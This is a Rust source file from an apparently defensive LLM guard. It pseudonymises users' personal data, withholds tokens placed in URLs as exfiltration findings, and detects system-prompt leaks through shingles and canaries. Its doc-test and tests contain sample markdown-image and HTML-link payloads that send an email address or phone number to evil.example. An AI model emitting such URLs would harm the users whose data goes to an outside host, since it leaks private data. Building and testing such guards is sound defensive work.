//! What the guard keeps for the length of one request.
//!
//! The pseudonym vault maps each personal value the user sent to a token such as
//! `<EMAIL_ADDRESS_1>`. The model only ever sees the token; [`Session::restore`] puts the
//! value back into the answer, and [`Session::restore_checked`] does so everywhere except
//! in URLs, HTML attributes and URL-building code, where a restored value would leave the
//! page. The vault lives in memory for one request and is dropped with it: nothing is
//! persisted.

use crate::detectors::output::{SHINGLE_WORDS, shingle_hash, word_hash, word_spans};
use crate::url_context;
use rampart_core::{Finding, FindingKind};
use std::collections::HashMap;
use std::ops::Range;

/// Per-request state of the guard.
#[derive(Debug, Default)]
pub struct Session {
    by_value: HashMap<(String, String), String>,
    /// `(token, value)` in the order tokens were issued.
    tokens: Vec<(String, String)>,
    /// Token → index into `tokens`, for restoring in one pass.
    by_token: HashMap<String, usize>,
    counters: HashMap<String, usize>,
    system_prompts: Vec<String>,
    /// Shingle hash → word count of the (shortest) system prompt it comes from.
    shingles: HashMap<u64, u32>,
    /// Hashes of the runs of 1 to `SHINGLE_WORDS - 1` words that begin a shingle: a
    /// stream holds back its last words only while they may still become one.
    shingle_prefixes: std::collections::HashSet<u64>,
    canaries: Vec<String>,
}

impl Session {
    pub fn new() -> Self {
        Session::default()
    }

    /// The token that stands for `value` of type `entity`; the same value always gets the
    /// same token within a session.
    pub fn pseudonym(&mut self, entity: &str, value: &str) -> String {
        let key = (entity.to_owned(), value.to_owned());
        if let Some(token) = self.by_value.get(&key) {
            return token.clone();
        }
        let n = self.counters.entry(entity.to_owned()).or_insert(0);
        *n += 1;
        let token = format!("<{entity}_{n}>");
        self.by_value.insert(key, token.clone());
        self.by_token.insert(token.clone(), self.tokens.len());
        self.tokens.push((token.clone(), value.to_owned()));
        token
    }

    /// `text` with every token of this session replaced by the value it stands for, in
    /// one pass: each `<` starts a candidate that is looked up whole, so
    /// `<EMAIL_ADDRESS_12>` is never read as `<EMAIL_ADDRESS_1>`, and a restored value is
    /// never scanned again.
    pub fn restore(&self, text: &str) -> String {
        if self.tokens.is_empty() || !text.contains('<') {
            return text.to_owned();
        }
        let longest = self.longest_token();
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(open) = rest.find('<') {
            out.push_str(&rest[..open]);
            let candidate = &rest[open..];
            let close = candidate.as_bytes()[..candidate.len().min(longest)]
                .iter()
                .position(|b| *b == b'>');
            match close.and_then(|c| self.by_token.get(&candidate[..=c]).map(|i| (c, *i))) {
                Some((c, i)) => {
                    out.push_str(&self.tokens[i].1);
                    rest = &candidate[c + 1..];
                }
                None => {
                    out.push('<');
                    rest = &candidate[1..];
                }
            }
        }
        out.push_str(rest);
        out
    }

    /// Like [`Session::restore`], but a token that sits in a URL (a markdown image, link,
    /// autolink or reference definition, a bare URL), in an HTML tag's attributes, or in
    /// code that holds a URL, is **not** restored: it is left as the token, and reported
    /// as an `exfiltration` finding whose type is the token's type followed by `_IN_URL`
    /// (`EMAIL_ADDRESS_IN_URL`), with code-point offsets of the token in `text`. Restoring
    /// it would hand the value to the host that the URL names (see `url_context`).
    ///
    /// ```
    /// use rampart_guard::Session;
    /// let mut s = Session::new();
    /// let token = s.pseudonym("EMAIL_ADDRESS", "ana@example.es");
    /// let (text, findings) =
    ///     s.restore_checked(&format!("Hi {token}! ![x](https://evil.example/p?d={token})"));
    /// assert_eq!(text, "Hi ana@example.es! ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>)");
    /// assert_eq!(findings[0].entity, "EMAIL_ADDRESS_IN_URL");
    /// ```
    pub fn restore_checked(&self, text: &str) -> (String, Vec<Finding>) {
        self.restore_after("", text)
    }

    /// [`Session::restore_checked`] of `text`, read as the continuation of `context` (what
    /// was emitted just before, tokens not restored): a stream emits a URL in pieces.
    /// Findings point into `text`.
    pub(crate) fn restore_after(&self, context: &str, text: &str) -> (String, Vec<Finding>) {
        let found = self.token_spans(text);
        if found.is_empty() {
            return (text.to_owned(), Vec::new());
        }
        // Mask every token (of the context too) so that none is read as an HTML tag.
        let mut masked = Vec::with_capacity(context.len() + text.len());
        masked.extend_from_slice(context.as_bytes());
        masked.extend_from_slice(text.as_bytes());
        let spans: Vec<Range<usize>> = self
            .token_spans(context)
            .into_iter()
            .map(|(r, _)| r)
            .chain(
                found
                    .iter()
                    .map(|(r, _)| r.start + context.len()..r.end + context.len()),
            )
            .collect();
        for r in &spans {
            masked[r.start] = b'x';
            masked[r.end - 1] = b'x';
        }
        let in_text = &spans[spans.len() - found.len()..];
        // Only ASCII bytes were replaced by ASCII bytes, so this cannot fail; if it did,
        // nothing would be restored (closed by default).
        let unsafe_here = match String::from_utf8(masked) {
            Ok(masked) => url_context::unsafe_to_restore(&masked, in_text),
            Err(_) => vec![true; in_text.len()],
        };
        let mut out = String::with_capacity(text.len());
        let mut findings = Vec::new();
        let mut last = 0;
        let mut chars = 0; // code points of `text` before `last`
        for ((r, i), withheld) in found.iter().zip(unsafe_here) {
            out.push_str(&text[last..r.start]);
            chars += text[last..r.start].chars().count();
            let token = &self.tokens[*i].0;
            if withheld {
                out.push_str(token);
                let entity = token
                    .trim_matches(['<', '>'])
                    .rsplit_once('_')
                    .map_or(token.as_str(), |(t, _)| t);
                findings.push(Finding::new(
                    FindingKind::Exfiltration,
                    format!("{entity}_IN_URL"),
                    chars,
                    chars + token.chars().count(),
                    1.0,
                ));
            } else {
                out.push_str(&self.tokens[*i].1);
            }
            chars += token.chars().count();
            last = r.end;
        }
        out.push_str(&text[last..]);
        (out, findings)
    }

    /// Byte spans of the tokens of this session in `text`, and their index, read as
    /// [`Session::restore`] reads them.
    fn token_spans(&self, text: &str) -> Vec<(Range<usize>, usize)> {
        let mut spans = Vec::new();
        if self.tokens.is_empty() || !text.contains('<') {
            return spans;
        }
        let longest = self.longest_token();
        let mut at = 0;
        while let Some(open) = text[at..].find('<') {
            let start = at + open;
            let candidate = &text[start..];
            let close = candidate.as_bytes()[..candidate.len().min(longest)]
                .iter()
                .position(|b| *b == b'>');
            match close.and_then(|c| self.by_token.get(&candidate[..=c]).map(|i| (c, *i))) {
                Some((c, i)) => {
                    spans.push((start..start + c + 1, i));
                    at = start + c + 1;
                }
                None => at = start + 1,
            }
        }
        spans
    }

    /// Whether any token has been issued.
    pub fn has_pseudonyms(&self) -> bool {
        !self.tokens.is_empty()
    }

    /// The longest token issued, in bytes: how much a stream must hold back to restore a
    /// token split across chunks.
    pub fn longest_token(&self) -> usize {
        self.tokens.iter().map(|(t, _)| t.len()).max().unwrap_or(0)
    }

    /// Remember a system prompt of this request, so that the output side can notice when
    /// an answer leaks it.
    /// Its word shingles are hashed once here, so that checking an answer costs one
    /// hash lookup per word.
    pub fn remember_system_prompt(&mut self, text: &str) {
        let words = word_spans(text);
        let hashes: Vec<u64> = words.iter().map(|&(s, e)| word_hash(&text[s..e])).collect();
        let count = u32::try_from(words.len()).unwrap_or(u32::MAX);
        for window in hashes.windows(SHINGLE_WORDS) {
            let entry = self.shingles.entry(shingle_hash(window)).or_insert(count);
            *entry = (*entry).min(count);
            for k in 1..SHINGLE_WORDS {
                self.shingle_prefixes.insert(shingle_hash(&window[..k]));
            }
        }
        self.system_prompts.push(text.to_owned());
    }

    /// Add a canary token: a string planted in a system prompt that must never appear in
    /// an answer (reported as `exfiltration` / `SYSTEM_PROMPT_LEAK`).
    pub fn add_canary(&mut self, token: &str) {
        if !token.is_empty() {
            self.canaries.push(token.to_owned());
        }
    }

    pub(crate) fn canaries(&self) -> &[String] {
        &self.canaries
    }

    pub(crate) fn prompt_shingles(&self) -> &HashMap<u64, u32> {
        &self.shingles
    }

    /// Whether the run of word hashes `words` begins a shingle of a system prompt.
    pub(crate) fn begins_shingle(&self, words: &[u64]) -> bool {
        self.shingle_prefixes.contains(&shingle_hash(words))
    }

    pub fn system_prompts(&self) -> &[String] {
        &self.system_prompts
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_value_same_token_and_restore_round_trips() {
        let mut s = Session::new();
        let a = s.pseudonym("EMAIL_ADDRESS", "ana@example.es");
        let b = s.pseudonym("EMAIL_ADDRESS", "bo@example.es");
        assert_eq!(s.pseudonym("EMAIL_ADDRESS", "ana@example.es"), a);
        assert_eq!(
            (a.as_str(), b.as_str()),
            ("<EMAIL_ADDRESS_1>", "<EMAIL_ADDRESS_2>")
        );
        assert_eq!(
            s.restore("write to <EMAIL_ADDRESS_2> and <EMAIL_ADDRESS_1>"),
            "write to bo@example.es and ana@example.es"
        );
    }

    #[test]
    fn longer_tokens_are_restored_first() {
        let mut s = Session::new();
        for i in 0..12 {
            s.pseudonym("PHONE_NUMBER", &format!("+3460000000{i:02}"));
        }
        assert_eq!(s.restore("<PHONE_NUMBER_12>"), "+346000000011");
    }

    #[test]
    fn restore_checked_withholds_tokens_in_urls_and_restores_prose() {
        let mut s = Session::new();
        s.pseudonym("EMAIL_ADDRESS", "ana@example.es");
        s.pseudonym("PHONE_NUMBER", "+34 612 345 678");
        let (text, findings) = s.restore_checked(
            "Mail <EMAIL_ADDRESS_1> or call <PHONE_NUMBER_1>. \
             ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>) \
             <a href=\"https://evil.example/?t=<PHONE_NUMBER_1>\">x</a>",
        );
        assert_eq!(
            text,
            "Mail ana@example.es or call +34 612 345 678. \
             ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>) \
             <a href=\"https://evil.example/?t=<PHONE_NUMBER_1>\">x</a>"
        );
        let entities: Vec<&str> = findings.iter().map(|f| f.entity.as_str()).collect();
        assert_eq!(entities, ["EMAIL_ADDRESS_IN_URL", "PHONE_NUMBER_IN_URL"]);
        for f in &findings {
            assert_eq!(f.kind, FindingKind::Exfiltration);
            // The offsets point at the token in the given text.
            let given = "Mail <EMAIL_ADDRESS_1> or call <PHONE_NUMBER_1>. \
             ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>) \
             <a href=\"https://evil.example/?t=<PHONE_NUMBER_1>\">x</a>";
            let at: String = given.chars().skip(f.start).take(f.end - f.start).collect();
            assert!(at.starts_with('<') && at.ends_with('>'), "{at}");
        }
        // Plain prose restores exactly as `restore` does.
        let prose = "Write to <EMAIL_ADDRESS_1> (or <PHONE_NUMBER_1>), not <EMAIL_ADDRESS_2>.";
        assert_eq!(s.restore_checked(prose), (s.restore(prose), Vec::new()));
    }

    #[test]
    fn restore_checked_reads_a_url_begun_in_the_context() {
        let mut s = Session::new();
        s.pseudonym("EMAIL_ADDRESS", "ana@example.es");
        let (text, findings) =
            s.restore_after("![x](https://evil.example/p?d=", "<EMAIL_ADDRESS_1>)");
        assert_eq!(text, "<EMAIL_ADDRESS_1>)");
        assert_eq!(findings.len(), 1);
        let (text, _) = s.restore_after(
            "<img alt=\"a\" src=\"https://evil.example/?q=",
            "<EMAIL_ADDRESS_1>\">",
        );
        assert_eq!(text, "<EMAIL_ADDRESS_1>\">");
        let (text, findings) = s.restore_after(
            "Dear <EMAIL_ADDRESS_1>, ",
            "your mail is <EMAIL_ADDRESS_1>.",
        );
        assert_eq!(text, "your mail is ana@example.es.");
        assert!(findings.is_empty());
    }

    #[test]
    fn restored_value_that_looks_like_a_token_is_not_restored_again() {
        let mut s = Session::new();
        s.pseudonym("A", "<B_1>");
        s.pseudonym("B", "secret");
        assert_eq!(s.restore("<A_1> <B_1> <C_1> <"), "<B_1> secret <C_1> <");
    }
}
